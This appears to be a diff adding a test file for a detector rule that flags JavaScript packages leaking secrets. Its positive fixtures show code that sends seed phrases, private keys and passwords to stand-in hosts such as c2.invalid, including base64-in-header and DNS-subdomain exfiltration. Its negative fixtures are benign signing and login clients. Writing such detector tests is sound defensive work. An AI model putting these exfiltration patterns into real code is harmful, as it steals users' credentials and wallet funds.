@@ -1,0 +1,129 @@
+import { examine } from '../../../test/examine.ts';
+import { givesAwaySecrets } from './gives-away-secrets.ts';
+
+const WALLET = { name: 'specimen', description: 'Wallet helpers' };
+
+examine(givesAwaySecrets, {
+  speaks: [
+    {
+      when: 'a seed phrase goes into an address',
+      files: {
+        'index.js': `const https = require('https'); function notify(text) { https.get('https://bot.invalid/send?text=' + encodeURIComponent(text)); } exports.check = mnemonic => { const words = mnemonic.trim().split(' '); if (words.length > 11) notify(mnemonic); return true; }`,
+      },
+      says: ['mnemonic', 'bot.invalid'],
+      weight: 'strong',
+    },
+    {
+      when: 'a private key goes into a header, in another form',
+      files: {
+        'index.js': `function queue(key) { const b = Buffer.from(key).toString('base64'); fetch('https://rpc.invalid/q', { method: 'POST', headers: { 'x-amz-cf-id': b.slice(0, 24) } }); } exports.Account = class { constructor(privateKey) { this.key = privateKey; queue(privateKey); } }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'it is kept in a field first',
+      files: {
+        'index.js': `exports.Wallet = class { constructor(o) { this.seedPhrase = o.seedPhrase; } async balance() { await fetch('https://stats.invalid/', { method: 'POST', body: JSON.stringify({ s: this.seedPhrase }) }); } }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the secret key of a wallet library goes away',
+      files: {
+        'package.json': WALLET,
+        'index.js': `exports.from = secretKey => { fetch('https://q.invalid/?k=' + secretKey); return { secretKey }; }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a login is mirrored to a bare address',
+      files: {
+        'index.js': `const http = require('http'); exports.login = (req, verify) => { const { username, password } = req.body; const m = http.request({ host: '198.51.100.4', method: 'POST', path: '/l' }); m.end(JSON.stringify({ username, password })); return verify(username, password); }`,
+      },
+      says: ['password'],
+      weight: 'strong',
+    },
+    {
+      when: 'a service keeps keys for its users',
+      files: {
+        'package.json': { name: '@keeper/client' },
+        'index.js': `exports.upload = privateKey => fetch('https://api.keeper.invalid/certificates', { method: 'POST', body: JSON.stringify({ privateKey }) })`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'another file of the package sends what it is given',
+      files: {
+        'index.js': `const send = require('./send'); exports.from = privateKey => { send(privateKey); return { privateKey }; }`,
+        'send.js': `module.exports = text => fetch('https://c2.invalid/', { method: 'POST', body: text })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a seed phrase is the first part of a name that is looked up',
+      files: {
+        'index.js': `exports.toSeed = mnemonic => { require('dns').lookup(Buffer.from(mnemonic).toString('hex').slice(0, 60) + '.c2.invalid', () => {}); return mnemonic; }`,
+      },
+      weight: 'strong',
+    },
+  ],
+  silent: [
+    {
+      when: 'a wallet signs and sends what it has signed',
+      files: {
+        'package.json': WALLET,
+        'index.js': `const { sign } = require('@noble/secp256k1'); exports.send = async (tx, privateKey) => { const signature = await sign(tx, privateKey); return fetch('https://rpc.chain.invalid/', { method: 'POST', body: JSON.stringify({ tx, signature }) }); }`,
+      },
+    },
+    {
+      when: 'a request is signed with a key by code of its own',
+      files: {
+        'index.js': `const crypto = require('crypto'); const signed = (text, secretKey) => crypto.createHmac('sha256', secretKey).update(text).digest('hex'); exports.call = (q, secretKey) => fetch('https://api.exchange.invalid/?' + q + '&signature=' + signed(q, secretKey))`,
+      },
+    },
+    {
+      when: 'a client sends its key to its service',
+      files: {
+        'index.js': `exports.client = secretKey => fetch('https://api.pay.invalid/v1', { headers: { authorization: 'Bearer ' + secretKey } })`,
+      },
+    },
+    {
+      when: 'a client logs in where its caller says',
+      files: {
+        'index.js': `exports.login = (url, username, password) => fetch(url, { method: 'POST', body: JSON.stringify({ username, password }) })`,
+      },
+    },
+    {
+      when: 'a client logs in at its service',
+      files: {
+        'index.js': `exports.login = (email, password) => fetch('https://auth.specimen.invalid/token', { method: 'POST', body: JSON.stringify({ email, password }) })`,
+      },
+    },
+    {
+      when: 'the public half is sent',
+      files: {
+        'index.js': `exports.register = pair => fetch('https://keys.invalid/', { method: 'POST', body: JSON.stringify({ publicKey: pair.publicKey }) })`,
+      },
+    },
+    {
+      when: 'an object that also holds the key names the path',
+      files: {
+        'package.json': WALLET,
+        'index.js': `exports.history = account => { const state = { privateKey: account.privateKey, address: account.address }; return fetch('https://explorer.invalid/address/' + state.address); }`,
+      },
+    },
+    {
+      when: 'a token is made with the key and sent',
+      files: {
+        'index.js': `const jwt = require('jsonwebtoken'); exports.auth = (email, privateKey) => { const assertion = jwt.sign({ iss: email }, privateKey, { algorithm: 'RS256' }); return fetch('https://oauth2.specimen.invalid/token', { method: 'POST', body: new URLSearchParams({ assertion }) }); }`,
+      },
+    },
+    {
+      when: 'another file signs with the key and sends the signature',
+      files: {
+        'index.js': `const send = require('./send'); exports.pay = (tx, privateKey) => send(tx, privateKey)`,
+        'send.js': `const { sign } = require('elliptic'); module.exports = (tx, key) => fetch('https://rpc.chain.invalid/', { method: 'POST', body: JSON.stringify({ tx, s: sign(tx, key) }) })`,
+      },
+    },
+  ],
+});
